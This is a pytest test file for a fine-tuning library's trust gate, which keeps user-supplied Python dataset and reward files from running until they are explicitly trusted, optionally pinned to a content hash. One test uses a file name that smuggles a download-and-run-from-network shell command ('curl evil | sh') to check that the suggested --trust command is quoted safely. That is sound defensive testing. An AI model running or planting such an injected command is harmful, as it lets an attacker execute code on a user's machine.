"""Code of the user's own, as rows and as rewards: it runs only where --trust says so."""

from __future__ import annotations

import hashlib
import json

import pytest
from llmft_datasets.python import Python
from llmft_rewards.python import Python as PythonReward

from llmft.api import Encoded, PromptRow, SampledAnswer
from llmft.api.errors import LlmftError
from llmft.data.usable_rows import read_rows
from llmft.engine.preflight import preflight
from llmft.recipes.load import load_recipe
from llmft.registry.registry import Registry
from llmft.runs.fingerprint import stage_fingerprint
from llmft.runs.resuming import changed_environment
from llmft.runs.run_folder import plugins_of
from llmft.system import trust
from llmft.testing import DatasetContract, RewardContract
from tests.odd_files import in_time, place

ROWS = """
from pathlib import Path
Path(__file__).with_name("canary").touch()

def rows(split):
    if split not in ("train", "validation"):
        raise KeyError(split)
    for n in range(10 if split == "train" else 2):
        yield {"prompt": f"{n}?", "completion": f" {n}", "answers": [str(n)]}

def prompts():
    return [{"prompt": "a", "answers": ["b"], "level": 3}]

def talks(split):
    return [{"messages": [{"role": "user", "content": "q"},
                          {"role": "assistant", "content": "a"}]}]

def pairs(split):
    return [{"prompt": "p", "chosen": "c", "rejected": "r"}]

def judged(split):
    return [{"prompt": "p", "completion": "c", "label": True}]

def texts(split):
    return [{"text": "t"}]

def classed(split):
    return [{"text": "t", "label": 1}]

def broken(split):
    yield {"prompt": "a", "completion": "b"}
    raise ValueError("no more")

def numbers(split):
    return [1]

def reward(prompts, completions, **kwargs):
    return [float(len(c)) for c in completions]

def seen(prompts, completions, level, **kwargs):
    seen.kwargs = dict(kwargs, prompts=prompts, completions=completions, level=level)
    return level

def few(prompts, completions):
    return [1.0]

def words(completions):
    return ["much"] * len(completions)

def truth(completions, ground_truth, scale=1.0, **kwargs):
    return [float(c == t) for c, t in zip(completions, ground_truth)]

def lump(completions):
    return 1.0

class Scorer:
    def __call__(self, completions, *, level):
        return level

scorer = Scorer()
"""


@pytest.fixture(autouse=True)
def _nothing_stays_trusted():
    yield
    trust.revoke_all()


@pytest.fixture
def file(tmp_path):
    path = tmp_path / "mine.py"
    path.write_text(ROWS)
    return path


@pytest.fixture
def trusted(file):
    trust.grant([f"file:{file}"])
    return file


def data(file, **settings):
    return Python(Python.Config(method="python", file=str(file), **settings))


def rule(file, function="reward"):
    return PythonReward(PythonReward.Config(method="python", file=str(file), function=function))


def fault(act):
    with pytest.raises(LlmftError) as caught:
        act()
    return caught.value.faults[0]


class TestPythonRows(DatasetContract):
    method_class = Python
    configs = [{"file": "mine.py"}, {"file": "mine.py", "rows": "chat", "function": "talks"}]
    bad_records = [{"prompt": "a"}, {"prompt": "a", "completion": None}]

    def write(self, folder):
        (folder / "mine.py").write_text(ROWS.replace("touch()", "name"))
        trust.grant([f"file:{folder / 'mine.py'}"])
        return {"file": str(folder / "mine.py")}


class TestPythonReward(RewardContract):
    method_class = PythonReward

    @pytest.fixture(autouse=True)
    def _file(self, tmp_path):
        (tmp_path / "mine.py").write_text(ROWS.replace("touch()", "name"))
        trust.grant([f"file:{tmp_path / 'mine.py'}"])
        self.folder = tmp_path

    configs = [{"file": "mine.py"}]

    def _config(self, settings):
        where = getattr(self, "folder", None)
        return super()._config({**settings, **({"file": str(where / "mine.py")} if where else {})})


RECIPE = """recipe: 1
name: own
model: {path: embedded:model}
stages:
  - name: g
    adapter: {method: lora}
    alignment:
      method: grpo
      rewards:
        - {method: python, file: FILE}
    data: {method: python, file: FILE, function: prompts, rows: prompt}
"""


def job(file, text=RECIPE):
    recipe = file.parent / "recipe.yaml"
    recipe.write_text(text.replace("FILE", str(file)))
    return load_recipe(recipe, Registry.discover())


def test_nothing_runs_without_trust_and_what_to_type_is_said(file):
    found = preflight(job(file), None)
    assert [(f.code, f.place.line, f.path) for f in found] == [
        ("E607", 10, "stages[0].alignment.rewards[0].file"), ("E607", 11, "stages[0].data.file"),
    ]  # fmt: skip
    assert found[0].fix == f"read it, then add --trust file:{file}"
    for act in (
        lambda: read_rows(data(file), "train", None),
        lambda: rule(file).score("p", "c", ()),
    ):
        assert fault(act).code == "E607"
    assert not (file.parent / "canary").exists()


def test_trust_of_one_content_ends_where_it_changes(file):
    digest = hashlib.sha256(file.read_bytes()).hexdigest()
    trust.grant([f"file:{file}@{digest[:16]}"])
    assert preflight(job(file), None) == []
    file.write_text(ROWS + "\n")
    found = preflight(job(file), None)
    assert {f.code for f in found} == {"E607"}
    assert f"{digest[:16]} is trusted" in found[0].what


def test_trust_of_another_file_is_none(file):
    trust.grant([f"file:{file.parent / 'other.py'}"])
    assert fault(lambda: read_rows(data(file), "train", None)).code == "E607"
    for text in ("mine.py", "file:", "code:org/repo"):
        assert fault(lambda text=text: trust.grant([text])).code == "E090"


def test_trusted_rows_are_read(trusted):
    found = read_rows(data(trusted), "train", None)
    assert [row.completion for row in found.rows] == [f" {n}" for n in range(10)]
    assert found.rows[3].answers == ("3",)
    assert found.rows[3].origin == f"{trusted}: rows(train), row 4"
    assert len(read_rows(data(trusted), "validation[:50%]", None).rows) == 1
    assert preflight(job(trusted), None) == []


@pytest.mark.parametrize(("settings", "kind"), [
    ({"function": "talks", "rows": "chat"}, "ChatRow"),
    ({"function": "pairs", "rows": "preference"}, "PreferenceRow"),
    ({"function": "judged", "rows": "unpaired"}, "UnpairedRow"),
    ({"function": "texts", "rows": "text"}, "TextRow"),
    ({"function": "classed", "rows": "classification"}, "ClassificationRow"),
    ({"function": "prompts", "rows": "prompt"}, "PromptRow"),
])  # fmt: skip
def test_every_kind_of_row_can_be_given(trusted, settings, kind):
    (row,) = read_rows(data(trusted, **settings), "train", None).rows
    assert type(row).__name__ == kind
    if isinstance(row, PromptRow):
        assert (row.columns, row.answers) == ({"level": 3}, ("b",))


@pytest.mark.parametrize(("settings", "code", "said"), [
    ({"function": "broken"}, "E121", "mine.py:32: ValueError: no more"),
    ({"function": "row"}, "E121", "has no function 'row'"),
    ({"function": "numbers"}, "E121", "a dictionary is wanted, got a int"),
    ({"split": "test"}, "E121", "KeyError: 'test'"),
    ({"function": "prompts", "split": "test"}, "E109", "prompts() takes no split"),
])  # fmt: skip
def test_what_goes_wrong_in_it_names_its_line(trusted, settings, code, said):
    dataset = data(trusted, **settings)
    found = fault(lambda: read_rows(dataset, dataset.config.split, None))
    assert found.code == code
    assert said in found.what


@pytest.mark.parametrize(("text", "said"), [
    ("def rows(:", "mine.py:1: SyntaxError"), ("x = 1\nx.y", "mine.py:2: AttributeError"),
    ("raise SystemExit(3)", "mine.py:1: SystemExit: 3"),
])  # fmt: skip
def test_a_file_that_does_not_run_is_told(file, text, said):
    file.write_text(text)
    trust.grant([f"file:{file}"])
    assert said in fault(lambda: read_rows(data(file), "train", None)).what


def test_a_file_that_is_not_there_is_told(tmp_path):
    found = preflight(job(tmp_path / "none.py"), None)
    assert {(f.code, f.place.line) for f in found} == {("E107", 10), ("E107", 11)}


def batch():
    row = Encoded((1, 2, 3), (-100, 2, 3))
    asked = ({"role": "user", "content": "q"},)
    return [SampledAnswer("p", "two", ("x",), row, {"level": 7.5}),
            SampledAnswer(asked, "four", (), row, {"level": 1})]  # fmt: skip


def test_a_reward_gets_what_trl_gives(trusted):
    one = rule(trusted, "seen")
    assert one.score_batch(batch()) == [7.5, 1.0]
    got = trust.trusted_function(str(trusted), "seen").kwargs
    assert got == {
        "prompts": ["p", [{"role": "user", "content": "q"}]],
        "completions": ["two", [{"role": "assistant", "content": "four"}]],
        "completion_ids": [[2, 3], [2, 3]],
        "answers": [["x"], []],
        "level": [7.5, 1],
    }


def test_a_reward_that_gives_no_numbers_is_refused(trusted):
    assert "gives 1 scores of 2" in fault(lambda: rule(trusted, "few").score_batch(batch())).what
    found = fault(lambda: rule(trusted, "words").score_batch(batch()))
    assert (found.code, "gives 'much' for a completion" in found.what) == ("E112", True)


@pytest.mark.parametrize(("function", "code", "said", "fix"), [
    ("rewardd", "E121", "has no function 'rewardd'", "did you mean 'reward'?"),
    ("truth", "E041", "'truth' takes 'ground_truth'", "data.reward_columns: [ground_truth]"),
])  # fmt: skip
def test_a_reward_that_cannot_be_called_is_found_before_the_run(trusted, function, code, said, fix):
    text = RECIPE.replace("file: FILE}\n    data", f"file: FILE, function: {function}}}\n    data")
    (found,) = preflight(job(trusted, text), None)
    assert (found.code, found.place.line) == (code, 10)
    assert said in found.what
    assert fix in found.fix


def test_a_reward_file_that_is_no_python_is_found_before_the_run(tmp_path):
    (tmp_path / "mine.py").write_text(ROWS)
    (tmp_path / "rule.py").write_text("def reward(completions, **kwargs)\n    return 1\n")
    for name in ("mine.py", "rule.py"):
        trust.grant([f"file:{tmp_path / name}"])
    text = RECIPE.replace("FILE", str(tmp_path / "rule.py"), 1)
    (found,) = preflight(job(tmp_path / "mine.py", text), None)
    assert (found.code, found.place.line, "rule.py:1: SyntaxError" in found.what) == (
        "E121", 10, True,
    )  # fmt: skip


@pytest.mark.parametrize("function", ["reward", "seen", "words", "scorer"])
def test_a_reward_that_takes_what_the_rows_have_passes(trusted, function):
    text = RECIPE.replace("file: FILE}\n    data", f"file: FILE, function: {function}}}\n    data")
    assert preflight(job(trusted, text), None) == []


def test_a_reward_learns_from_the_prompts_columns_what_it_can_be_given(trusted, tmp_path):
    (tmp_path / "p.jsonl").write_text('{"prompt": "a", "ground_truth": "b"}\n')
    data = f"{{method: prompts, path: {tmp_path / 'p.jsonl'}}}"
    text = RECIPE.replace("file: FILE}\n    data", "file: FILE, function: truth}\n    data")
    text = text.replace("{method: python, file: FILE, function: prompts, rows: prompt}", data)
    (found,) = preflight(job(trusted, text), None)
    assert "data.reward_columns" in found.fix
    named = text.replace("p.jsonl}", "p.jsonl, reward_columns: [ground_truth]}")
    assert preflight(job(trusted, named), None) == []


def test_a_reward_that_is_asked_without_a_column_says_which(trusted):
    found = fault(lambda: rule(trusted, "truth").score_batch(batch()))
    assert (found.code, "'truth' takes 'ground_truth'" in found.what) == ("E121", True)
    assert "data.reward_columns" in found.fix


def test_a_reward_that_gives_one_number_for_all_is_refused(trusted):
    found = fault(lambda: rule(trusted, "lump").score_batch(batch()))
    assert (found.code, "lump gives a float, not a list" in found.what) == ("E112", True)


def test_the_hash_is_in_the_lock_and_the_fingerprint(trusted):
    whole = job(trusted)
    before = {"plugins": plugins_of(whole), "model": {"sha256": {}, "path": "m"}}
    (entry,) = [p for p in before["plugins"] if p["kind"] == "file"]
    assert entry["sha256"] == hashlib.sha256(trusted.read_bytes()).hexdigest()
    assert entry["stages"] == ["g"]
    stage = whole.recipe.stages[0]
    first = stage_fingerprint(whole.recipe, stage, before, trusted.parent, {})
    trusted.write_text(ROWS + "\n# changed")
    after = json.loads(json.dumps(before)) | {"plugins": plugins_of(whole)}
    assert stage_fingerprint(whole.recipe, stage, after, trusted.parent, {}) != first
    rest = dict.fromkeys(("llmft", "python", "processor", "device", "torch_threads", "torch_build"))
    locks = [lock | rest | {"packages": {}} for lock in (before, after)]
    assert fault(lambda: changed_environment(*locks)).code == "E405"
    assert changed_environment(*locks, accept_plugins=True)[0].startswith("code of the file")


@pytest.mark.parametrize("digits", ["", "a", "0" * 15, "0" * 65, "z" * 64, " " * 16])
def test_a_content_that_is_not_told_is_not_trusted(file, digits):
    """An empty variable, or a digit, after the @ would trust every content."""
    told = fault(lambda: trust.grant([f"file:{file}@{digits}"]))
    assert (told.code, "after the @" in told.fix) == ("E090", True)
    assert not trust.is_trusted(str(file))


def test_a_folder_with_an_at_holds_a_file_that_is_trusted(tmp_path):
    place = tmp_path / "a@b"
    place.mkdir()
    (place / "mine.py").write_text(ROWS)
    digest = hashlib.sha256(ROWS.encode()).hexdigest()
    for words in (f"file:{place}/mine.py", f"file:{place}/mine.py@{digest[:16]}"):
        trust.revoke_all()
        trust.grant([words])
        assert trust.is_trusted(str(place / "mine.py"))


def test_what_is_to_be_typed_is_one_word(tmp_path, monkeypatch):
    """The file's name is the recipe's, which may be a stranger's."""
    monkeypatch.chdir(tmp_path)
    name = "rows.py; curl evil | sh"
    (tmp_path / name).write_text(ROWS)
    assert trust.refusal(name).faults[0].fix.endswith(f"--trust 'file:{name}'")


@pytest.mark.parametrize("kind", ["pipe", "device"])
def test_code_is_a_plain_file(tmp_path, kind):
    place(kind, tmp_path / "mine.py", tmp_path)
    told = in_time(lambda: fault(lambda: trust.digest_of(str(tmp_path / "mine.py"))))
    assert (told.code, f"it is a {kind}" in told.what) == ("E107", True)
